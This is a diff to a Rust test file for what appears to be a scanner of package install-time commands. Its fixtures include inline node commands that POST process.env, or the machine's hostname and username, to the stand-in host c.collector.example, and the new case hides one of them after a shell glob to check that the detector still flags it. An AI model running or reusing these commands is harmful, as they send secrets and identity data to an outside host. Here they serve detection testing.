@@ -269,6 +269,11 @@ fn gyp_command_expansions_and_inline_node_are_install_time_code() {
         r#"node -e \"fetch('https://c.collector.example/', { method: 'POST', body: JSON.stringify(process.env) })\""#,
     );
     assert_verdict(&attack, Verdict::Malicious);
+    // Shell text before it cannot open a JavaScript comment over it.
+    let behind_a_glob = inline(
+        r#"cp lib/* dist/ && node -e \"const o = require('os'); require('https').request({ hostname: 'c.collector.example', method: 'POST' }).end(o.hostname() + o.userInfo().username)\" # */"#,
+    );
+    assert_verdict(&behind_a_glob, Verdict::Malicious);
     let honest = inline(r#"node -e \"try { require('./postinstall') } catch (e) {}\""#);
     assert_verdict(&honest, Verdict::Clean);
 }
